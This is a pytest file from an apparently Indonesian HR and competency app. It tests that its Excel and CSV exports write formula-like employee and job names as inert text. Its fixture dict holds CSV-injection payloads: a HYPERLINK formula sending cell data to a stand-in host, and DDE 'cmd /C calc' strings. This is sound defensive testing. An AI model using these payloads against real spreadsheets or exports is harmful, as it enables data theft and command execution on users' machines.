"""Issue 17 [R] item 3: every Excel and CSV export writes a text that starts like a formula as text
(OWASP CSV injection), tested with hostile names that came in through the employee import."""
import csv
import io
import re
from decimal import Decimal
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from bangkom.dasbor import laporan as laporan_jp
from bangkom.dokumen import ekspor as ekspor_lembar
from bangkom.kompetensi import laporan as laporan_kesenjangan
from bangkom.lib import sel
from bangkom.pegawai import impor
from bangkom.pegawai.models import Pegawai

pytestmark = pytest.mark.django_db

JAHAT = {
    "199001012015031001": '=HYPERLINK("http://jahat.test/?d="&A1,"klik")',
    "199001012015031002": "+6281234567",
    "199001012015031003": "-2+3+cmd|' /C calc'!A0",
    "199001012015031004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "199001012015031005": "\t=1+1",
    "199001012015031006": "\r=1+1",
}


def _impor_jahat():
    wb = Workbook()
    ws = wb.active
    ws.append([j for _, j in impor.KOLOM])
    for nip, nama in JAHAT.items():
        ws.append([nip, "x", "", "", "PNS", "III/a", "Penata Muda", "ANALIS", "DINKES", "S1", "", ""])
        c = ws.cell(row=ws.max_row, column=2)
        c.value = nama
        c.data_type = "s"  # as typed in Excel with a leading quote: text, not a formula
    buf = io.BytesIO()
    wb.save(buf)
    hasil = impor.pegawai_impor(isi=buf.getvalue())
    assert hasil["dibuat"] == len(JAHAT)  # the import strips the leading tab / CR; the export checks the rest


def _nama_tersimpan():
    return {p.nip: p.nama_lengkap for p in Pegawai.objects.filter(nip__in=JAHAT)}


def _periksa_xlsx(isi: bytes, diharapkan: set[str]):
    wb = load_workbook(io.BytesIO(isi))
    ditemukan = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value in diharapkan:
                    assert c.data_type == "s", (c.coordinate, c.value)
                    assert c.quotePrefix, (c.coordinate, c.value)
                    ditemukan.add(c.value)
                assert c.data_type != "f", (c.coordinate, c.value)
    assert ditemukan == diharapkan


def _periksa_csv(teks: str, diharapkan: set[str]):
    sel_csv = [v for row in csv.reader(io.StringIO(teks.lstrip("\ufeff"))) for v in row]
    for v in sel_csv:
        assert not sel.berbahaya(v) or re.fullmatch(r"-\d+(\.\d+)?", v), v  # negative numbers stay numbers
    assert {"'" + n for n in diharapkan} <= set(sel_csv)


def test_the_helper_neutralises_text_only():
    for awal in ("=", "+", "-", "@", "\t", "\r"):
        assert sel.teks_csv(awal + "1") == "'" + awal + "1"
    assert sel.teks_csv("Budi") == "Budi"
    assert sel.teks_csv(-3) == -3
    assert sel.teks_csv(Decimal("-1.50")) == Decimal("-1.50")
    assert sel.baris_xlsx(None, [1, Decimal("-2"), "Budi"]) == [1, Decimal("-2"), "Budi"]


def test_jp_report_xlsx_and_csv_write_imported_hostile_names_as_text(cast):
    _impor_jahat()
    nama = set(_nama_tersimpan().values())
    assert any(n.startswith("=") for n in nama)
    qs = Pegawai.objects.all()
    buf = io.BytesIO()
    laporan_jp.laporan_jp_xlsx(buf, tahun=2025, pegawai_qs=qs)
    _periksa_xlsx(buf.getvalue(), nama)
    teks = io.StringIO()
    laporan_jp.laporan_jp_csv(teks, tahun=2025, pegawai_qs=qs)
    _periksa_csv(teks.getvalue(), nama)
    # numbers stay numbers
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    assert any(isinstance(c.value, int | float) for row in ws.iter_rows(min_row=7) for c in row)


def test_gap_report_xlsx_and_csv_write_hostile_names_as_text(cast, monkeypatch):
    _impor_jahat()
    nama = set(_nama_tersimpan().values())
    baris = [[nip, n, "Analis", "Dinkes", "Integritas", "Inti", 3, 1, -2, "Coaching"]
             for nip, n in _nama_tersimpan().items()]
    monkeypatch.setattr(laporan_kesenjangan, "baris_laporan", lambda qs, tahun: iter(baris))
    _periksa_xlsx(laporan_kesenjangan.tulis(Pegawai.objects.all(), tahun=2025, format="xlsx"), nama)
    teks = laporan_kesenjangan.tulis(Pegawai.objects.all(), tahun=2025, format="csv").decode("utf-8-sig")
    _periksa_csv(teks, nama)
    assert ",-2," in teks  # a negative number is not quoted


def test_sheet_export_index_csv_writes_hostile_names_as_text(cast, monkeypatch, tmp_path):
    _impor_jahat()
    nama = set(_nama_tersimpan().values())

    def gagal(**kwargs):
        raise RuntimeError("=1+1 gagal")

    monkeypatch.setattr(ekspor_lembar.lembar, "lembar_terbitkan", gagal)
    pasangan = [(p, "coaching") for p in Pegawai.objects.filter(nip__in=JAHAT)]
    tujuan = tmp_path / "lembar.zip"
    ekspor_lembar.zip_tulis(pasangan=pasangan, tahun=2025, tujuan=tujuan)
    import zipfile

    teks = zipfile.ZipFile(tujuan).read("indeks.csv").decode("utf-8-sig")
    _periksa_csv(teks, nama)


def test_standards_and_evaluation_recap_xlsx_write_hostile_text_as_text(cast):
    from bangkom.kompetensi import impor as impor_standar
    from bangkom.kompetensi.models import Kompetensi, StandarKompetensi
    from bangkom.pegawai.models import Jabatan
    from bangkom.sesi import views as sesi_views

    jab = Jabatan.objects.get(kode="ANALIS")
    jab.nama = "=1+1"
    jab.save()
    StandarKompetensi.objects.create(jabatan=jab, kompetensi=Kompetensi.objects.first(), level_standar=3)
    _periksa_xlsx(impor_standar.ekspor_xlsx(), {"=1+1"})

    kosong = SimpleNamespace(rata_rata=None, kategori="", indikator=[])
    baris = [SimpleNamespace(nama="@Rina", jumlah_manfaat=1, manfaat=kosong, jumlah_kontribusi=0,
                             kontribusi=kosong)]
    keseluruhan = SimpleNamespace(nama="Keseluruhan", jumlah_manfaat=1, manfaat=kosong, jumlah_kontribusi=0,
                                  kontribusi=kosong)
    _periksa_xlsx(sesi_views._xlsx_rekap(baris, keseluruhan, "pembimbing"), {"@Rina"})
